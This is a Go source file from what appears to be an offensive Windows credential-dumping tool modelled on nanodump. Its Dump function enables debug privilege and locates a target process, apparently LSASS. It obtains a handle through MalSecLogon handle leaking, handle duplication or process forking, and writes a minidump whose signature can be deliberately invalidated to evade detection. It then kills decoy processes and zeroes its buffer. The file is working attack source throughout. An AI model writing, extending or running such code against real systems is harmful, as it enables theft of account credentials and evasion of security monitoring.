//go:build windows

package picodump

import (
	"os"

	"github.com/pkg/errors"
	"golang.org/x/sys/windows"
)

// Dump runs the full sequence: enable privilege, resolve the target,
// acquire a handle through the configured strategy, write the artifact into
// the reserved buffer, persist it, scrub. Cleanup runs on every exit path:
// handles are closed, spawned decoys are killed and the buffer is zeroed.
func Dump(opts Options) error {
	log := opts.logger()
	if err := opts.Validate(); err != nil {
		return err
	}
	if opts.MalSecLogon && !opts.DupHandle && opts.DecoyBinary == "" {
		// The local variant re-runs this binary as stage 2.
		exe, err := os.Executable()
		if err != nil {
			return errors.Wrap(err, "locate own executable for seclogon decoy")
		}
		opts.DecoyBinary = exe
	}

	if err := enableDebugPrivilege(); err != nil {
		return err
	}

	pid := opts.PID
	if pid == 0 {
		var err error
		if pid, err = FindTargetPID(); err != nil {
			return err
		}
	}

	remote := opts.MalSecLogon && opts.DupHandle
	local := opts.MalSecLogon && !opts.DupHandle
	stage1 := opts.MalSecLogon && !opts.Stage2

	// Probe the destination before touching the target. Stage 2 skips the
	// probe: stage 1 already created the file.
	if !opts.Stage2 {
		if err := createDumpFile(opts.Path); err != nil {
			return err
		}
	}

	var spawned []uint32
	if stage1 {
		var err error
		if spawned, err = malSecLogon(pid, &opts, remote, log); err != nil {
			return err
		}
		if local {
			// Stage 2 owns the artifact from here; the caller polls the
			// destination file.
			log.Debug("stage 2 spawned, leaving the dump to it")
			return nil
		}
	}

	sig := MiniDumpSignature
	version := MiniDumpVersion
	implVersion := MiniDumpImplementationVersion
	if !opts.ValidSignature {
		var err error
		if sig, version, implVersion, err = generateInvalidSignature(); err != nil {
			if remote {
				killProcesses(spawned, log)
			}
			return err
		}
	}

	access := targetDefaultAccess
	if opts.Fork && !remote {
		access = processQueryInformation | processCreateProcess
	}

	var h windows.Handle
	var err error
	switch {
	case opts.Stage2:
		h, err = findLeakedHandle(pid)
	case opts.DupHandle:
		h, err = duplicateTargetHandle(pid, log)
	default:
		h, err = openProcess(pid, access)
		if err != nil {
			err = errors.Wrapf(ErrHandleDenied, "%v", err)
		}
	}
	if err != nil {
		if remote {
			killProcesses(spawned, log)
		}
		return err
	}

	// Duplicated and leaked handles arrive with whatever mask their source
	// had; forking needs create-process rights on top.
	if opts.Fork && (opts.MalSecLogon || opts.DupHandle || opts.Stage2) {
		h = makeHandleFullAccess(h, log)
	}

	var clone windows.Handle
	if opts.Fork {
		clone, err = forkProcess(h)
		ntClose(h)
		if err != nil {
			if remote {
				killProcesses(spawned, log)
			}
			return err
		}
		h = clone
	}

	dc := newDumpContext(newLiveTarget(h, log), opts.maxSize(), log)
	dc.signature = sig
	dc.version = version
	dc.implementationVersion = implVersion
	dc.allModules = opts.AllModules

	dumpErr := dc.writeDump()

	if clone != 0 {
		ntTerminateProcess(clone, 0)
	}
	ntClose(h)
	if remote {
		killProcesses(spawned, log)
	}

	if dumpErr == nil {
		dumpErr = writeDumpFile(opts.Path, dc.buf[:dc.rva])
	}
	dc.erase()
	return dumpErr
}
